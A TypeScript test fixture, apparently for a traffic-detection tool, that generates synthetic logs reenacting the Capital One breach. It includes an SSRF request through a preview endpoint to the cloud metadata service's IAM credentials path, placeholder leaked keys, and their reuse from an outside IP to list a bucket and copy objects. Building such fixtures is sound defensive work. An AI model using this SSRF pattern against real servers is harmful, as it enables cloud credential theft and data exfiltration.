import type { Exchange } from '@weir/schema'
import { exchangeOf } from './traffic.ts'

/** The parts of the Capital One chain, so that tests can leave some out. */
export interface BreachParts {
  /** The edge hands the role's credentials to the intruder. */
  readonly leak: boolean
  /** Objects the thief copies. */
  readonly objects: number
}

const start = 1_700_000_000_000
const key = 'ASIAEDGEROLEEXAMPLE2'
const folder = '/latest/meta-data/iam/security-credentials/'
const credentials = JSON.stringify({
  Code: 'Success',
  AccessKeyId: key,
  SecretAccessKey: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
  Token: 'IQoJb3JpZ2luX2VjEXAMPLETOKENIQoJb3JpZ2luX2VjEXAMPLETOKEN',
  Expiration: '2026-11-24T18:00:00Z',
})
const store = { host: 'documents.internal', ip: '10.20.3.20' }

/**
 * SSRF through the edge, the credentials it gives away, and their use from somewhere else, between
 * customers, the edge that goes on using its own key, and a backup that copies the same bucket.
 */
export function breachTraffic({ leak, objects }: BreachParts): readonly Exchange[] {
  const lines: object[] = []
  const add = (after: number, line: object): void => {
    lines.push(line)
    for (let count = 0; count < after; count += 1) lines.push(customer(lines.length))
  }
  add(3, signed('10.20.1.10', 'PUT', '/logs/edge-0.gz', ''))
  for (let at = 0; at < 60; at += 1) add(at % 2, backup(at))
  add(2, preview('', folder, 'edge-role'))
  add(0, metadata(folder, 'edge-role'))
  add(0, preview('edge-role', folder, leak ? credentials : 'refused'))
  add(4, metadata(`${folder}edge-role`, credentials))
  add(2, signed('10.20.1.10', 'PUT', '/logs/edge-1.gz', ''))
  add(1, signed('198.51.100.23', 'GET', '/', '<ListAllMyBucketsResult/>'))
  add(1, signed('198.51.100.23', 'GET', '/applications?list-type=2', listing(60)))
  for (let at = 0; at < objects; at += 1) {
    add(at % 3 === 0 ? 1 : 0, signed('198.51.100.23', 'GET', `/applications/k/${at}`, 'x'))
  }
  add(2, signed('10.20.1.10', 'PUT', '/logs/edge-2.gz', ''))
  return lines.map((line, index) => exchangeOf({ ts: start + index * 1_000, ...line }))
}

function customer(index: number): object {
  return {
    src: { ip: `203.0.113.${100 + (index % 40)}` },
    dst: { host: 'bank.example', ip: '10.20.1.10' },
    req: { method: 'GET', url: `/rates/${index % 7}` },
    res: { status: 200, headers: { 'content-type': 'application/json' }, body: '{"rate":1.5}' },
  }
}

function preview(role: string, path: string, body: string): object {
  return {
    src: { ip: '203.0.113.66' },
    dst: { host: 'bank.example', ip: '10.20.1.10' },
    req: { method: 'GET', url: `/preview?url=http://169.254.169.254${path}${role}` },
    res: { status: 200, headers: { 'content-type': 'text/plain' }, body },
  }
}

function metadata(url: string, body: string): object {
  return {
    src: { ip: '10.20.1.10', service: 'edge' },
    dst: { host: '169.254.169.254', ip: '169.254.169.254', port: 80 },
    req: { method: 'GET', url, headers: { 'user-agent': 'edge/2.1' } },
    res: { status: 200, headers: { 'content-type': 'text/plain' }, body },
  }
}

function signed(ip: string, method: string, url: string, body: string, by = key): object {
  const scope = `${by}/20260303/us-east-1/s3/aws4_request`
  return {
    src: { ip },
    dst: store,
    req: {
      method,
      url,
      headers: {
        authorization: `AWS4-HMAC-SHA256 Credential=${scope}, SignedHeaders=host, Signature=00`,
      },
    },
    res: { status: 200, headers: { 'content-type': 'application/xml' }, body },
  }
}

function backup(at: number): object {
  return signed('10.40.7.3', 'GET', `/applications/k/${at}`, 'x', 'ASIABACKUPEXAMPLE222')
}

function listing(count: number): string {
  const keys = Array.from({ length: count }, (_, at) => `<Contents><Key>k/${at}</Key></Contents>`)
  return `<ListBucketResult>${keys.join('')}</ListBucketResult>`
}
